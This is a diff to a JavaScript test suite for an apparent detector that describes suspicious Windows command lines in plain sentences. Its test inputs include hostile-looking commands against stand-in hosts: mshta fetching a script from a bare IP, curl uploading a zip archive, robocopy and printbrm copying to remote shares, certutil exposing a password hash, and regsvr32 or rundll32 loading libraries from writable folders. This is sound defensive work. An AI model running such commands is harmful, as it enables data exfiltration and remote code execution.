@@ -68,11 +68,17 @@ describe("a sentence", () => {
 
   it.each([
     ["nslookup -q=txt kit.example.net", /: the address kit\.example\.net\. It takes what kit\.example\.net answers/],
-    ["robocopy C:\\Users\\Public \\\\198.51.100.7\\s", /copies a folder: the folder C:\\Users\\Public/],
-    ["certutil -syncwithWU \\\\192.0.2.8\\x", /the password hash: the share \\\\192\.0\.2\.8\\x/],
+    [
+      "robocopy C:\\Users\\Public \\\\198.51.100.7\\s",
+      /copies a folder: C:\\Users\\Public, to \\\\198\.51\.100\.7\\s\./,
+    ],
+    ["certutil -syncwithWU \\\\192.0.2.8\\x", /the password hash: the share \\\\192\.0\.2\.8\\x\./],
     ["wab.exe", /names for contacts: the registry entry HKLM/],
-    ["hh.exe C:\\Users\\Public\\x.chm", /It opens the file C:\\Users\\Public\\x\.chm from a folder/],
-    ["regsvr32 C:\\Users\\Public\\x.dll", /It loads the library C:\\Users\\Public\\x\.dll from a folder/],
+    ["hh.exe C:\\Users\\Public\\x.chm", /It opens this file from a folder/],
+    [
+      "regsvr32 C:\\Users\\Public\\x.dll",
+      /calls DllRegisterServer of a library: C:\\Users\\Public\\x\.dll\. It loads this library from a folder/,
+    ],
   ])("calls what it names by what it is: %s", (commandLine, says) => {
     expect(text(commandLine)).toMatch(says);
   });
@@ -84,12 +90,51 @@ describe("a sentence", () => {
   });
 
   it.each([
-    ["regsvr32 C:\\Users\\Public\\x.dll", "not normally kept, and that users can write to."],
-    ["regsvr32 /s ..\\x.dll", "..\\x.dll by a path from the working directory"],
+    ["regsvr32 C:\\Users\\Public\\x.dll", "not normally kept, and to which users can write."],
+    ["regsvr32 /s ..\\x.dll", "this library by a path from the working directory"],
   ])("says once where a payload lies: %s", (commandLine, says) => {
     expect(text(commandLine)).toContain(says);
     expect(text(commandLine)).not.toContain("from a folder that users can write to");
     expect(text(commandLine)).not.toContain("without a folder");
+  });
+
+  it.each([
+    [
+      "mshta http://198.51.100.7/a.hta",
+      /machine: the script http:\S+\. It takes this script from the web\. 198\.51\.100\.7 is a bare IP address outside the site\./,
+    ],
+    [
+      "curl -T C:\\k\\a.zip http://198.51.100.7/in",
+      /to another machine: C:\\k\\a\.zip, to http:\/\/198\.51\.100\.7\/in\./,
+    ],
+    [
+      "rundll32 printui.dll,PrintUIEntry /in /n \\\\198.51.100.7\\desk",
+      /It turns to the network share \\\\198\.51\.100\.7\\desk\./,
+    ],
+    [
+      "rundll32 kiwi.dll,Go",
+      /It names this library without a folder, so the search path and the working directory decide/,
+    ],
+    [
+      "regsvr32 C:\\Temp\\kiwi.dll",
+      /kiwi\.dll\. It loads this library, which lies loose in a temporary folder: what is unpacked there has a folder of its own\./,
+    ],
+    [
+      "printbrm -b -d \\\\198.51.100.7\\pub\\kiwi -f C:\\k\\a.zip",
+      /a folder into a file: the folder \\\\198\.51\.100\.7\\pub\\kiwi\. It takes this folder from a network share\./,
+    ],
+    ["wscript kiwi.vbs", /It names this script without a folder, so the working directory decides what runs\./],
+  ])("says what it names in full once: %s", (commandLine, says) => {
+    expect(text(commandLine)).toMatch(says);
+  });
+
+  it("says in each fact what no other says, where they are told one by one", () => {
+    const { judgement } = explain(
+      { commandLine: "regsvr32 C:\\Users\\Public\\x.dll", platform: "windows" },
+      builtinCatalog(),
+    );
+    const told = judgement?.reasons.map((one) => one.text).filter((one) => /users can write/.test(one));
+    expect(told).toEqual(["It loads the library C:\\Users\\Public\\x.dll from a folder that users can write to."]);
   });
 
   it("tells a help file that is unpacked as read, and runs nothing", () => {
@@ -97,7 +142,7 @@ describe("a sentence", () => {
       { commandLine: "hh.exe -decompile C:\\Temp\\out C:\\Temp\\k.chm", platform: "windows" },
       builtinCatalog(),
     );
-    expect(explanation.verdict.text).toMatch(/a compiled help file: the file C:\\Temp\\k\.chm\.$/);
+    expect(explanation.verdict.text).toMatch(/a compiled help file: C:\\Temp\\k\.chm\.$/);
     expect(explanation.invocations[0]?.behaviours[0]?.runs).toEqual([]);
   });
 });
